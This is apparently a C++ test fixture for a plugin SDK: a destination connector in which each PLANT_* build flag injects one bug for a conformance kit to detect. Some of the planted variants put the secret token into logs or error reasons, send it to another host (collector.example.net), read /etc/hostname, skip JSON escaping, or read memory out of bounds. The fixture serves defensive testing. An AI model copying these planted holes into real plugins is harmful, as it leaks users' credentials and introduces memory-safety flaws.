// A good destination, or the same with one planted bug that the conformance kit must find; see kit_test.py
// for which check finds it.
#include <cstdlib>
#include <fcntl.h>
#include <stdexcept>
#include <string>
#include <thread>
#include <unistd.h>
#include <utility>

#include "sluice/json.hpp"
#include "sluice/plugin.hpp"

namespace {

namespace sdk = sluice::sdk;

#if defined(PLANT_UNIQUE_SYMBOL)
template <typename T>
struct SLUICE_EXPORT Shared {
  static inline int count = 0;  // one for all libraries of the process
};
#endif

class Planted {
 public:
  static constexpr std::uint32_t kind = SLUICE_DESTINATION;
  static constexpr char id[] = "planted";

  Planted(const sdk::Host& host, const sdk::Open& open) : host_(host), token_(host.secret("token")) {
    const sdk::Json config = sdk::Json::parse(open.config).value_or(sdk::Json());
#if !defined(PLANT_TAKES_ANY_CONFIG)
    if (!config.is_object()) throw sdk::Fail(SLUICE_INVALID, "the settings are no mapping");
#endif
#if defined(PLANT_CRASHES_ON_CONFIG)
    if (config["endpoint"] && !config["endpoint"].is_string()) std::abort();
#elif defined(PLANT_CREATES_ONCE)
    static bool made = false;
    if (std::exchange(made, true)) throw sdk::Fail(SLUICE_INTERNAL, "there is one already");
#elif defined(PLANT_SECRET_IN_LOG)
    host.log(SLUICE_DEBUG, "connecting with " + token_);
#elif defined(PLANT_LEAKS_DESCRIPTORS)
    descriptor_ = ::open("/dev/null", O_RDONLY | O_CLOEXEC);
#elif defined(PLANT_LEAKS_THREADS)
    std::thread([] { ::sleep(60); }).detach();
#elif defined(PLANT_UNIQUE_SYMBOL)
    ++Shared<int>::count;
#endif
  }

  void plan(const sdk::Batch& batch, sdk::Call& call) {
#if defined(PLANT_KNOWS_THE_SIZE)
    sluice_batch copy = *c_batch_;
    copy.stride = sizeof(sluice_record);
#endif
    sdk::Request request{.url = "/batch", .headers = {{"content-type", "application/json"}}};
    for (std::uint32_t i = 0; i < batch.size(); ++i) {
#if defined(PLANT_KNOWS_THE_SIZE)
      const sdk::Record record = sdk::Batch(&copy)[i];
#else
      const sdk::Record record = batch[i];
#endif
      if (!takes(record.op)) {
        call.outcome(i, {.status = SLUICE_INVALID, .reason = "unknown_op"});
        continue;
      }
      if (misbehaves(batch, i, request, call)) continue;
      request.body += request.body.empty() ? "[" : ",";
      request.body +=
          "{\"name\":" + quoted(record.name) + ",\"payload\":" + std::string(record.payload) + '}';
      request.records.push_back(i);
    }
#if defined(PLANT_CRASHES_ON_NOTHING)
    if (batch[0].op == SLUICE_EVENT) request.timeout_ms = 1'000;
#elif defined(PLANT_EXITS)
    if (batch.size() > 30) ::_exit(0);
#elif defined(PLANT_LEAKS_MEMORY)
    leaked_ = new std::string(4'096, 'x');
#elif defined(PLANT_READS_FILES)
    ::close(::open("/etc/hostname", O_RDONLY | O_CLOEXEC));
#elif defined(PLANT_WRONG_HOST)
    request.url = "https://collector.example.net/?token=" + token_;
#elif defined(PLANT_READS_CLOCK)
    request.headers.push_back({"x-sent", std::to_string(host_.now_us())});
#elif defined(PLANT_COUNTS)
    request.headers.push_back({"x-count", std::to_string(++count_)});
#endif
    request.body += ']';
    if (!request.records.empty()) call.request(request);
  }

  void interpret(const sdk::Batch&, const sdk::Response& response, sdk::Call& call) {
    sluice_status status = sdk::verdict(response.status());
    std::string reason = status == SLUICE_OK ? "" : "http_" + std::to_string(response.status()), detail;
#if defined(PLANT_CRASHES_ON_GARBAGE)
    if (response.body().starts_with('<')) *const_cast<volatile char*>(static_cast<char*>(nullptr)) = 1;
#elif defined(PLANT_CALLS_IT_DELIVERED)
    status = SLUICE_OK;
#elif defined(PLANT_SECRET_IN_REASON)
    if (status == SLUICE_INVALID) reason = token_;
#elif defined(PLANT_EMAIL_IN_DETAIL)
    if (status != SLUICE_OK) detail = response.body().substr(0, 100);
#elif defined(PLANT_REASON_IS_A_SENTENCE)
    if (status != SLUICE_OK) reason = "HTTP status " + std::to_string(response.status());
#endif
    for (const std::uint32_t i : response.records()) {
      call.outcome(i, {.status = status,
                       .reason = reason,
                       .detail = detail,
                       .retry_after_ms = response.retry_after_ms()});
    }
  }

 private:
  static bool takes([[maybe_unused]] std::uint32_t op) {
#if defined(PLANT_GUESSES_OPERATIONS)
    return true;
#elif defined(PLANT_THROWS)
    return op == SLUICE_EVENT || op == SLUICE_UPSERT || op > 90;
#else
    return op == SLUICE_EVENT || op == SLUICE_UPSERT;
#endif
  }

  static std::string quoted(std::string_view text) {
#if defined(PLANT_NO_ESCAPES)
    return '"' + std::string(text) + '"';
#else
    return sdk::json_string(text);
#endif
  }

  // True: the record is dealt with.
  bool misbehaves([[maybe_unused]] const sdk::Batch& batch, [[maybe_unused]] std::uint32_t i,
                  [[maybe_unused]] sdk::Request& request, [[maybe_unused]] sdk::Call& call) {
#if defined(PLANT_LEAVES_OUT)
    return batch.size() > 1 && i == 1;
#elif defined(PLANT_COVERS_TWICE)
    if (batch.size() > 1 && i == 1) call.outcome(i, {.status = SLUICE_SKIPPED, .reason = "twice"});
#elif defined(PLANT_KEEPS_POINTER)
    if (last_ != nullptr) seen_ = *last_;
    last_ = batch[i].payload.data();
#elif defined(PLANT_READS_TOO_FAR)
    const volatile char* const payload = batch[i].payload.data();
    seen_ = payload[batch[i].payload.size() + SLUICE_PADDING];
#elif defined(PLANT_WRITES)
    auto* const payload = const_cast<volatile char*>(batch[i].payload.data());
    *payload = *payload;
#elif defined(PLANT_IGNORES_STOP)
    try {
      call.outcome(i, {.status = SLUICE_SKIPPED, .reason = "no_address"});
    } catch (...) {
    }
    return true;
#elif defined(PLANT_EMAIL_IN_FAILURE)
    if (!sdk::Json::parse(batch[i].payload)) {
      throw sdk::Fail(SLUICE_INVALID, "cannot parse " + std::string(batch[i].payload));
    }
#elif defined(PLANT_THROWS)
    if (batch[i].op > 90) throws_ = true;
#endif
    return false;
  }

  sdk::Host host_;
  std::string token_;
  [[maybe_unused]] const volatile char* last_ = nullptr;
  [[maybe_unused]] volatile char seen_ = 0;
  [[maybe_unused]] int descriptor_ = -1, count_ = 0;
  [[maybe_unused]] std::string* volatile leaked_ = nullptr;

 public:
  [[maybe_unused]] bool throws_ = false;
  [[maybe_unused]] const sluice_batch* c_batch_ = nullptr;
};

#if defined(PLANT_BAD_MANIFEST)
#define REQUIRED "\"endpoint\", \"tokn\""
#else
#define REQUIRED "\"endpoint\", \"token\""
#endif
#define MANIFEST(version)                                                                                \
  "{\"plugin\": \"planted\", \"version\": \"" version                                                    \
  "\", \"connectors\": [{\"id\": \"planted\","                                                           \
  "\"kind\": \"destination\", \"ops\": [\"event\", \"upsert\"], \"identifiers\": [\"email\"],"           \
  "\"base_url\": \"{config.endpoint}\", \"hosts\": [\"api.example.com\"],"                               \
  "\"auth\": {\"type\": \"header\", \"name\": \"authorization\", \"value\": \"Bearer {secret.token}\"}," \
  "\"config\": {\"type\": \"object\", \"required\": [" REQUIRED                                          \
  "], \"properties\": {"                                                                                 \
  "\"endpoint\": {\"type\": \"string\", \"format\": \"uri\"},"                                           \
  "\"token\": {\"type\": \"string\", \"x-secret\": true}}}}]}"

}  // namespace

#if defined(PLANT_EXTRA_SYMBOL)
extern "C" SLUICE_EXPORT int helper() {
  return 1;
}
#endif

#if defined(PLANT_KNOWS_THE_SIZE) || defined(PLANT_OTHER_MANIFEST) || defined(PLANT_OTHER_ID) || \
    defined(PLANT_THROWS) || defined(PLANT_NO_TEXT)
namespace {

[[gnu::section(".sluice_manifest"), gnu::used]] constexpr char section[] = MANIFEST("1.0.0");

// As plain C++ without the SDK may do it.
constexpr sluice_connector changed() {
  sluice_connector out = sdk::detail::table<Planted>();
#if defined(PLANT_OTHER_ID)
  out.id = "planted_again";
#elif defined(PLANT_THROWS)
  out.plan = [](sluice_instance* i, const sluice_plan* p, sluice_call* call) -> sluice_status {
    const sluice_status status = sdk::detail::table<Planted>().plan(i, p, call);
    if (reinterpret_cast<Planted*>(i)->throws_) throw std::runtime_error("an operation that I do not know");
    return status;
  };
#elif defined(PLANT_KNOWS_THE_SIZE)
  out.plan = [](sluice_instance* i, const sluice_plan* p, sluice_call* call) -> sluice_status {
    reinterpret_cast<Planted*>(i)->c_batch_ = p->batch;
    return sdk::detail::table<Planted>().plan(i, p, call);
  };
#elif defined(PLANT_NO_TEXT)
  out.create = [](const sluice_host* host, const sluice_open* open, sluice_call* call,
                  sluice_instance** made) -> sluice_status {
    if (!sdk::Json::parse(sdk::view(open->config))) return SLUICE_INVALID;
    return sdk::detail::create<Planted>(host, open, call, made);
  };
#endif
  return out;
}
constexpr sluice_connector connector = changed();
constexpr const sluice_connector* connectors[] = {&connector};
#if defined(PLANT_OTHER_MANIFEST)
constexpr char text[] = MANIFEST("1.0.1");
#else
constexpr char text[] = MANIFEST("1.0.0");
#endif

}  // namespace
extern "C" constinit const sluice_plugin sluice_plugin_v1 = {
    sizeof(sluice_plugin), 0, 0, 1, connectors, text};
#else
SLUICE_PLUGIN(MANIFEST("1.0.0"), Planted)
#endif
